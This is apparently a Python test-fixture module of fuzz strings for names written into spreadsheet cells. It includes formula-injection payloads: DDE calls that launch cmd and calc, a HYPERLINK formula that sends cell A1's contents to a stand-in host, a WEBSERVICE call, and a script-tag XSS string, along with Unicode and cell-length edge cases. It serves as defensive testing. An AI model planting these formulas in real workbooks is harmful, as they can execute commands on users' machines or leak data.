"""Texts that somebody may have for a name to see what a workbook does with it."""

from itertools import product

_BEGINNINGS = (
    "", "=", "+", "-", "@", "\t", "\r", "\n", "'", '"', "=-+@", "==", " =", "%0A=",
    "\ufeff=", "\u202e", "\u200b=", "{=", "#", "0", "https://", "mailto:", "\\\\",
    "<", "&",
)  # fmt: skip
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1;"klik")',
    'DDE("cmd";"/C calc";"!A0")', "SUM(A1:A9)", 'WEBSERVICE("http://x.example")',
    "N/A", "REF!", "00104", "1e5", "TRUE", "2026-11-20", "x.example/a?b=c&d=e",
    "<script>alert(1)</script>", "]]>", "&lt;b&gt;&#13;", "José Ñuñez-Öztürk",
    "محمد בן-דוד", "山田太郎", "👩🏽‍🍳🇳🇱", "<!channel> <@U1> *vet*",
)  # fmt: skip
_ENDINGS = (
    "", " ", "\t", "\r", "\r\n", "\n", "\u2028", "\u00a0", "\x7f", "\x85", "\u0301",
    "\u202c", '"', "'", ";", "\\", "\ufffd", "_", "_x", "x000D_", "\U0010ffff",
)  # fmt: skip

WRITABLE = [
    *("".join(parts) for parts in product(_BEGINNINGS, _BODIES, _ENDINGS)),
    "",
    " ",
    "\r",
    " \t\n",
    "=" * 32_767,
    "=" + "a\r" * 16_383,
    "😀" * 16_383,
]

UNWRITABLE = [
    *(f"Jan{chr(code)}sen" for code in range(32) if chr(code) not in "\t\n\r"),
    "\x0b",
    "Jan\ud800",
    "\udc00Jan",
    "\udc00\ud800",
    "Jan\ufffe",
    "\uffffJan",
    "_x000D_",
    "Jan_x0041_",
    "a" * 32_768,
    "😀" * 16_384,
]
